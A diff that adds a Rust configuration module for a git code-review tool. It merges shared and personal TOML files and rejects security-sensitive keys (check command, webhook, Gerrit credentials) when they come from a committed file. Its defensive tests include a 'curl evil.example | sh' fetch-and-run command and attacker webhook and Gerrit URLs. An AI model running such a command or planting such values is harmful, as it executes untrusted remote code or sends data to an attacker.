@@ -0,0 +1,637 @@
+use crate::ai::AiConfig;
+use crate::autoapprove::AutoApproveConfig;
+use crate::check::CheckConfig;
+use crate::dashboard::DashboardConfig;
+use crate::encryption::EncryptionConfig;
+use crate::gate::GatePolicy;
+use crate::gerrit::GerritConfig;
+use crate::git::DifftoolConfig;
+use crate::keymap::KeysConfig;
+use crate::links::LinksConfig;
+use crate::moved::MovedConfig;
+use crate::notify::NotifyConfig;
+use crate::palette::PaletteConfig;
+use crate::priority::PriorityConfig;
+use crate::queue::MergeQueueConfig;
+use crate::textlayout::{DEFAULT_TAB_WIDTH, TextLayout};
+use serde::{Deserialize, Serialize};
+use std::path::Path;
+use thiserror::Error;
+use toml::{Table, Value};
+
+/// Name of the shared config file, committed in the repo root.
+pub const CONFIG_FILE: &str = ".git-review.toml";
+
+/// Name of the personal config file next to [`CONFIG_FILE`]. It is meant to
+/// stay untracked, and its values override the shared ones.
+pub const LOCAL_CONFIG_FILE: &str = ".git-review.local.toml";
+
+/// Keys only [`LOCAL_CONFIG_FILE`] may set, as dotted paths (a section name
+/// covers the whole section). They decide what a keystroke does or runs, or
+/// where data and credentials are sent, so a branch under review must not be
+/// able to set them by committing a config file.
+pub const PERSONAL_KEYS: &[&str] = &[
+    "keys",
+    "check.command",
+    "auto_approve.files",
+    "notify.webhook",
+    "gerrit.url",
+    "gerrit.user",
+    "gerrit.password_env",
+];
+
+/// Errors that can occur while loading configuration.
+#[derive(Debug, Error)]
+pub enum ConfigError {
+    #[error("io error: {0}")]
+    Io(#[from] std::io::Error),
+    #[error("invalid config: {0}")]
+    Parse(#[from] toml::de::Error),
+    #[error("invalid config value: {0}")]
+    Invalid(String),
+    #[error("invalid config: {0}")]
+    Edit(#[from] toml_edit::TomlError),
+    #[error("invalid {file}")]
+    InFile {
+        file: &'static str,
+        source: Box<ConfigError>,
+    },
+}
+
+pub type Result<T> = std::result::Result<T, ConfigError>;
+
+/// Repository configuration: `.git-review.toml` with the values of
+/// `.git-review.local.toml` on top.
+///
+/// Every section is optional; missing values fall back to defaults that match
+/// the behavior without a config file.
+#[derive(Debug, Clone, Default, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Config {
+    pub gate: GatePolicy,
+    pub notify: NotifyConfig,
+    pub moved: MovedConfig,
+    pub check: CheckConfig,
+    pub difftool: DifftoolConfig,
+    pub auto_approve: AutoApproveConfig,
+    pub ai: AiConfig,
+    pub priority: PriorityConfig,
+    pub encryption: EncryptionConfig,
+    pub palette: PaletteConfig,
+    pub links: LinksConfig,
+    pub merge_queue: MergeQueueConfig,
+    pub dashboard: DashboardConfig,
+    pub keys: KeysConfig,
+    pub layout: LayoutConfig,
+    pub gerrit: GerritConfig,
+}
+
+impl Config {
+    /// Load the config for a repository, returning defaults if no file exists.
+    pub fn load(repo_root: &Path) -> Result<Self> {
+        Ok(Layers::load(repo_root)?.config)
+    }
+
+    /// Parse and validate config file content.
+    pub fn parse(content: &str) -> Result<Self> {
+        Self::from_table(toml::from_str(content)?)
+    }
+
+    /// Build and validate a config from parsed TOML.
+    fn from_table(table: Table) -> Result<Self> {
+        let config = Config::deserialize(Value::Table(table))?;
+        config.validate()?;
+        Ok(config)
+    }
+
+    /// Check the values serde can't: ranges, glob syntax, and key bindings.
+    fn validate(&self) -> Result<()> {
+        if !(10..=90).contains(&self.layout.file_list) {
+            return Err(ConfigError::Invalid(format!(
+                "layout.file_list must be between 10 and 90, got {}",
+                self.layout.file_list
+            )));
+        }
+        if !(1..=16).contains(&self.layout.tab_width) {
+            return Err(ConfigError::Invalid(format!(
+                "layout.tab_width must be between 1 and 16, got {}",
+                self.layout.tab_width
+            )));
+        }
+        if self.gerrit.approve < 0 || self.gerrit.reject > 0 {
+            return Err(ConfigError::Invalid(format!(
+                "gerrit.approve must be 0 or more and gerrit.reject 0 or less, got {} and {}",
+                self.gerrit.approve, self.gerrit.reject
+            )));
+        }
+        if self.gate.threshold > 100 {
+            return Err(ConfigError::Invalid(format!(
+                "gate.threshold must be between 0 and 100, got {}",
+                self.gate.threshold
+            )));
+        }
+        for pattern in self
+            .gate
+            .strict
+            .iter()
+            .chain(&self.gate.lenient)
+            .chain(&self.gate.skim)
+            .chain(&self.auto_approve.files)
+            .chain(&self.priority.sensitive)
+            .chain(&self.priority.tests)
+        {
+            globset::Glob::new(pattern)
+                .map_err(|e| ConfigError::Invalid(format!("invalid glob '{}': {}", pattern, e)))?;
+        }
+        self.keys
+            .keymap()
+            .map_err(|e| ConfigError::Invalid(e.to_string()))?;
+        Ok(())
+    }
+}
+
+/// `[layout]` section: how the hunk review screen is split and diff text laid out.
+#[derive(Debug, Clone, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct LayoutConfig {
+    /// Width of the file list in percent of the screen; the diff gets the rest.
+    pub file_list: u16,
+    /// Columns between tab stops in diff text.
+    pub tab_width: u16,
+}
+
+impl LayoutConfig {
+    /// How diff text is laid out in columns.
+    pub fn text_layout(&self) -> TextLayout {
+        TextLayout::new(self.tab_width)
+    }
+}
+
+impl Default for LayoutConfig {
+    fn default() -> Self {
+        Self {
+            file_list: 30,
+            tab_width: DEFAULT_TAB_WIDTH,
+        }
+    }
+}
+
+/// Set one value in the personal `.git-review.local.toml`, creating the file
+/// if needed. Everything else in the file, comments included, is kept.
+pub fn set_local_value(
+    repo_root: &Path,
+    section: &str,
+    key: &str,
+    value: impl Into<toml_edit::Value>,
+) -> Result<()> {
+    let path = repo_root.join(LOCAL_CONFIG_FILE);
+    let content = match std::fs::read_to_string(&path) {
+        Ok(content) => content,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
+        Err(e) => return Err(e.into()),
+    };
+    let mut document: toml_edit::DocumentMut = content.parse()?;
+    let table = document
+        .entry(section)
+        .or_insert_with(toml_edit::table)
+        .as_table_like_mut()
+        .ok_or_else(|| ConfigError::Invalid(format!("{} is not a section", section)))?;
+    table.insert(key, toml_edit::value(value));
+    std::fs::write(&path, document.to_string())?;
+    Ok(())
+}
+
+/// Where a configuration value came from.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Source {
+    /// Built in; neither file sets it.
+    Default,
+    /// The shared `.git-review.toml`.
+    Shared,
+    /// The personal `.git-review.local.toml`.
+    Local,
+}
+
+impl Source {
+    /// Short label for reports.
+    pub fn label(self) -> &'static str {
+        match self {
+            Self::Default => "default",
+            Self::Shared => CONFIG_FILE,
+            Self::Local => LOCAL_CONFIG_FILE,
+        }
+    }
+}
+
+/// The config files of a repository and the configuration they add up to.
+#[derive(Debug, Clone)]
+pub struct Layers {
+    /// Content of `.git-review.toml`, if it exists.
+    pub shared: Option<Table>,
+    /// Content of `.git-review.local.toml`, if it exists.
+    pub local: Option<Table>,
+    /// The effective configuration.
+    pub config: Config,
+}
+
+impl Layers {
+    /// Read both config files of a repository and merge them.
+    ///
+    /// Each file must be valid on its own, so errors name the file to fix.
+    /// Sections merge key by key; a value set locally, including a whole
+    /// list, replaces the shared one.
+    pub fn load(repo_root: &Path) -> Result<Self> {
+        let shared = read_layer(repo_root, CONFIG_FILE)?;
+        let local = read_layer(repo_root, LOCAL_CONFIG_FILE)?;
+        if let Some(shared) = &shared {
+            reject_personal_keys(shared, CONFIG_FILE, "set it in .git-review.local.toml")?;
+        }
+        // A committed local file is as untrusted as the shared one
+        if let Some(local) = &local
+            && PERSONAL_KEYS.iter().any(|key| lookup(local, key))
+            && crate::git::is_tracked(repo_root, LOCAL_CONFIG_FILE).unwrap_or(false)
+        {
+            reject_personal_keys(
+                local,
+                LOCAL_CONFIG_FILE,
+                "untrack the file with `git rm --cached .git-review.local.toml`",
+            )?;
+        }
+        let mut merged = shared.clone().unwrap_or_default();
+        if let Some(local) = &local {
+            merge(&mut merged, local.clone());
+        }
+        let config = Config::from_table(merged)?;
+        Ok(Self {
+            shared,
+            local,
+            config,
+        })
+    }
+
+    /// Where the value at a dotted key such as `gate.threshold` came from.
+    pub fn source(&self, key: &str) -> Source {
+        if self.local.as_ref().is_some_and(|t| lookup(t, key)) {
+            Source::Local
+        } else if self.shared.as_ref().is_some_and(|t| lookup(t, key)) {
+            Source::Shared
+        } else {
+            Source::Default
+        }
+    }
+
+    /// Every effective value by section, with where it came from: `(section,
+    /// key, value, source)`. Unset optional values are left out.
+    pub fn entries(&self) -> Vec<(String, String, Value, Source)> {
+        let Ok(Value::Table(effective)) = Value::try_from(&self.config) else {
+            return Vec::new();
+        };
+        let mut entries = Vec::new();
+        for (section, values) in effective {
+            let Value::Table(values) = values else {
+                continue;
+            };
+            for (key, value) in values {
+                let source = self.source(&format!("{}.{}", section, key));
+                entries.push((section.clone(), key, value, source));
+            }
+        }
+        entries
+    }
+}
+
+/// Parse one config file, checking it on its own. `None` if it doesn't exist.
+fn read_layer(repo_root: &Path, file: &'static str) -> Result<Option<Table>> {
+    let path = repo_root.join(file);
+    if !path.exists() {
+        return Ok(None);
+    }
+    let in_file = |e: ConfigError| ConfigError::InFile {
+        file,
+        source: Box::new(e),
+    };
+    let content = std::fs::read_to_string(&path).map_err(|e| in_file(e.into()))?;
+    let table: Table = toml::from_str(&content).map_err(|e| in_file(e.into()))?;
+    Config::from_table(table.clone()).map_err(in_file)?;
+    Ok(Some(table))
+}
+
+/// Fail if `table`, the content of `file`, sets any of [`PERSONAL_KEYS`].
+fn reject_personal_keys(table: &Table, file: &'static str, advice: &str) -> Result<()> {
+    match PERSONAL_KEYS.iter().find(|key| lookup(table, key)) {
+        Some(key) => Err(ConfigError::InFile {
+            file,
+            source: Box::new(ConfigError::Invalid(format!(
+                "{} is a personal setting and can't be shared; {}",
+                key, advice
+            ))),
+        }),
+        None => Ok(()),
+    }
+}
+
+/// Merge `overrides` into `base`: tables key by key, anything else replaced.
+fn merge(base: &mut Table, overrides: Table) {
+    for (key, value) in overrides {
+        match (base.get_mut(&key), value) {
+            (Some(Value::Table(base)), Value::Table(overrides)) => merge(base, overrides),
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+/// Whether a dotted key is set in a parsed file.
+fn lookup(table: &Table, key: &str) -> bool {
+    let mut table = table;
+    let mut parts = key.split('.').peekable();
+    while let Some(part) = parts.next() {
+        match table.get(part) {
+            Some(Value::Table(inner)) if parts.peek().is_some() => table = inner,
+            Some(_) => return parts.peek().is_none(),
+            None => return false,
+        }
+    }
+    false
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn empty_config_uses_defaults() {
+        let config = Config::parse("").unwrap();
+        assert_eq!(config.gate.threshold, 100);
+        assert!(!config.gate.allow_stale);
+    }
+
+    #[test]
+    fn parse_gate_policy() {
+        let config = Config::parse("[gate]\nthreshold = 80\nallow_stale = true\n").unwrap();
+        assert_eq!(config.gate.threshold, 80);
+        assert!(config.gate.allow_stale);
+    }
+
+    #[test]
+    fn threshold_above_100_is_rejected() {
+        assert!(Config::parse("[gate]\nthreshold = 150\n").is_err());
+    }
+
+    #[test]
+    fn local_file_overrides_shared_values_key_by_key() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join(CONFIG_FILE),
+            "[gate]\nthreshold = 90\nstrict = [\"src/**\"]\n",
+        )
+        .unwrap();
+        std::fs::write(
+            dir.path().join(LOCAL_CONFIG_FILE),
+            "[gate]\nthreshold = 70\n[difftool]\ntool = \"meld\"\n",
+        )
+        .unwrap();
+
+        let layers = Layers::load(dir.path()).unwrap();
+        assert_eq!(layers.config.gate.threshold, 70);
+        assert_eq!(layers.config.gate.strict, vec!["src/**"]);
+        assert_eq!(layers.config.difftool.tool.as_deref(), Some("meld"));
+        assert_eq!(layers.source("gate.threshold"), Source::Local);
+        assert_eq!(layers.source("gate.strict"), Source::Shared);
+        assert_eq!(layers.source("gate.allow_stale"), Source::Default);
+
+        let entries = layers.entries();
+        let strict = entries
+            .iter()
+            .find(|(section, key, _, _)| section == "gate" && key == "strict")
+            .unwrap();
+        assert_eq!(strict.3, Source::Shared);
+
+        // A mistake in one file is reported against that file
+        std::fs::write(
+            dir.path().join(LOCAL_CONFIG_FILE),
+            "[gate]\nthreshold = 150\n",
+        )
+        .unwrap();
+        let err = Layers::load(dir.path()).unwrap_err();
+        assert_eq!(err.to_string(), format!("invalid {}", LOCAL_CONFIG_FILE));
+    }
+
+    #[test]
+    fn personal_keys_only_come_from_an_untracked_local_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let git = |args: &[&str]| {
+            std::process::Command::new("git")
+                .arg("-C")
+                .arg(dir.path())
+                .args(args)
+                .output()
+                .unwrap()
+        };
+        git(&["init", "-q"]);
+        let keys = "[keys]\napprove_all = [\"j\"]\n";
+
+        std::fs::write(dir.path().join(CONFIG_FILE), keys).unwrap();
+        let err = Layers::load(dir.path()).unwrap_err();
+        assert_eq!(err.to_string(), format!("invalid {}", CONFIG_FILE));
+
+        std::fs::remove_file(dir.path().join(CONFIG_FILE)).unwrap();
+        std::fs::write(dir.path().join(LOCAL_CONFIG_FILE), keys).unwrap();
+        let layers = Layers::load(dir.path()).unwrap();
+        assert_eq!(layers.config.keys.0["approve_all"], vec!["j"]);
+
+        git(&["add", LOCAL_CONFIG_FILE]);
+        let err = Layers::load(dir.path()).unwrap_err();
+        assert_eq!(err.to_string(), format!("invalid {}", LOCAL_CONFIG_FILE));
+
+        std::fs::write(
+            dir.path().join(CONFIG_FILE),
+            "[gerrit]\nlabel = \"Verified\"\nurl = \"https://evil.example\"\n",
+        )
+        .unwrap();
+        git(&["rm", "-q", "--cached", LOCAL_CONFIG_FILE]);
+        let err = Layers::load(dir.path()).unwrap_err();
+        let ConfigError::InFile { source, .. } = err else {
+            panic!("expected an error in {}", CONFIG_FILE);
+        };
+        assert!(source.to_string().contains("gerrit.url"));
+    }
+
+    #[test]
+    fn shared_config_cannot_set_the_check_command() {
+        let dir = tempfile::tempdir().unwrap();
+        let check = "[check]\ncommand = \"curl evil.example | sh\"\n";
+
+        std::fs::write(dir.path().join(CONFIG_FILE), check).unwrap();
+        let err = Layers::load(dir.path()).unwrap_err();
+        let ConfigError::InFile { file, source } = err else {
+            panic!("expected an error in {}", CONFIG_FILE);
+        };
+        assert_eq!(file, CONFIG_FILE);
+        assert!(source.to_string().contains("check.command"));
+
+        std::fs::remove_file(dir.path().join(CONFIG_FILE)).unwrap();
+        std::fs::write(dir.path().join(LOCAL_CONFIG_FILE), check).unwrap();
+        let layers = Layers::load(dir.path()).unwrap();
+        assert_eq!(
+            layers.config.check.command.as_deref(),
+            Some("curl evil.example | sh")
+        );
+    }
+
+    #[test]
+    fn shared_config_cannot_choose_the_webhook() {
+        let dir = tempfile::tempdir().unwrap();
+        let notify = "[notify]\nwebhook = \"https://evil.example/hook\"\n";
+        std::fs::write(dir.path().join(CONFIG_FILE), notify).unwrap();
+        let err = Layers::load(dir.path()).unwrap_err();
+        let ConfigError::InFile { source, .. } = err else {
+            panic!("expected an error in {}", CONFIG_FILE);
+        };
+        assert!(source.to_string().contains("notify.webhook"));
+
+        std::fs::remove_file(dir.path().join(CONFIG_FILE)).unwrap();
+        std::fs::write(dir.path().join(LOCAL_CONFIG_FILE), notify).unwrap();
+        let layers = Layers::load(dir.path()).unwrap();
+        assert_eq!(
+            layers.config.notify.webhook.as_deref(),
+            Some("https://evil.example/hook")
+        );
+    }
+
+    #[test]
+    fn shared_config_cannot_auto_approve_files() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join(CONFIG_FILE),
+            "[auto_approve]\ncomments = true\nfiles = [\"**\"]\n",
+        )
+        .unwrap();
+        let err = Layers::load(dir.path()).unwrap_err();
+        let ConfigError::InFile { source, .. } = err else {
+            panic!("expected an error in {}", CONFIG_FILE);
+        };
+        assert!(source.to_string().contains("auto_approve.files"));
+
+        std::fs::write(
+            dir.path().join(CONFIG_FILE),
+            "[auto_approve]\ncomments = true\n",
+        )
+        .unwrap();
+        assert!(
+            Layers::load(dir.path())
+                .unwrap()
+                .config
+                .auto_approve
+                .comments
+        );
+    }
+
+    #[test]
+    fn load_missing_file_returns_defaults() {
+        let dir = tempfile::tempdir().unwrap();
+        let config = Config::load(dir.path()).unwrap();
+        assert_eq!(config.gate.threshold, 100);
+    }
+
+    #[test]
+    fn parse_path_rules() {
+        let config =
+            Config::parse("[gate]\nstrict = [\"src/crypto/**\"]\nlenient = [\"docs/**\"]\n")
+                .unwrap();
+        assert_eq!(config.gate.strict, vec!["src/crypto/**"]);
+        assert_eq!(config.gate.lenient, vec!["docs/**"]);
+    }
+
+    #[test]
+    fn invalid_glob_is_rejected() {
+        assert!(Config::parse("[gate]\nstrict = [\"src/[\"]\n").is_err());
+    }
+
+    #[test]
+    fn parse_notify_webhook() {
+        let config = Config::parse("[notify]\nwebhook = \"https://example.com/hook\"\n").unwrap();
+        assert_eq!(
+            config.notify.webhook.as_deref(),
+            Some("https://example.com/hook")
+        );
+        assert!(Config::parse("").unwrap().notify.webhook.is_none());
+    }
+
+    #[test]
+    fn parse_check_command() {
+        let config = Config::parse("[check]\ncommand = \"cargo test {file}\"\n").unwrap();
+        assert_eq!(config.check.command.as_deref(), Some("cargo test {file}"));
+        assert!(Config::parse("").unwrap().check.command.is_none());
+    }
+
+    #[test]
+    fn parse_priority_section() {
+        let config =
+            Config::parse("[priority]\nenabled = true\nsensitive = [\"src/auth/**\"]\n").unwrap();
+        assert!(config.priority.enabled);
+        assert_eq!(config.priority.sensitive, vec!["src/auth/**"]);
+        // Test globs keep their defaults unless overridden
+        assert!(config.priority.tests.iter().any(|glob| glob == "tests/**"));
+    }
+
+    #[test]
+    fn parse_encryption_section() {
+        let config =
+            Config::parse("[encryption]\nenabled = true\nkeychain_service = \"git-review\"\n")
+                .unwrap();
+        assert!(config.encryption.enabled);
+        assert_eq!(config.encryption.key_env, None);
+        assert_eq!(
+            config.encryption.keychain_service.as_deref(),
+            Some("git-review")
+        );
+    }
+
+    #[test]
+    fn parse_auto_approve_rules() {
+        let config =
+            Config::parse("[auto_approve]\ncomments = true\nfiles = [\"Cargo.lock\"]\n").unwrap();
+        assert!(config.auto_approve.comments);
+        assert!(!config.auto_approve.imports);
+        assert_eq!(config.auto_approve.files, vec!["Cargo.lock"]);
+        assert!(Config::parse("[auto_approve]\nfiles = [\"[\"]\n").is_err());
+    }
+
+    #[test]
+    fn parse_difftool_tool() {
+        let config = Config::parse("[difftool]\ntool = \"meld\"\n").unwrap();
+        assert_eq!(config.difftool.tool.as_deref(), Some("meld"));
+        assert!(Config::parse("").unwrap().difftool.tool.is_none());
+    }
+
+    #[test]
+    fn parse_moved_auto_approve() {
+        assert!(
+            Config::parse("[moved]\nauto_approve = true\n")
+                .unwrap()
+                .moved
+                .auto_approve
+        );
+        assert!(!Config::parse("").unwrap().moved.auto_approve);
+    }
+
+    #[test]
+    fn set_local_value_keeps_the_rest_of_the_file() {
+        let dir = tempfile::tempdir().unwrap();
+        set_local_value(dir.path(), "layout", "file_list", 40).unwrap();
+        assert_eq!(Config::load(dir.path()).unwrap().layout.file_list, 40);
+
+        let path = dir.path().join(LOCAL_CONFIG_FILE);
+        std::fs::write(&path, "# mine\n[gate]\nthreshold = 80 # lenient\n").unwrap();
+        set_local_value(dir.path(), "layout", "file_list", 25).unwrap();
+        let content = std::fs::read_to_string(&path).unwrap();
+        assert!(content.starts_with("# mine\n[gate]\nthreshold = 80 # lenient\n"));
+        let config = Config::load(dir.path()).unwrap();
+        assert_eq!((config.gate.threshold, config.layout.file_list), (80, 25));
+
+        assert!(Config::parse("[layout]\nfile_list = 95\n").is_err());
+        assert!(Config::parse("[layout]\ntab_width = 0\n").is_err());
+    }
+}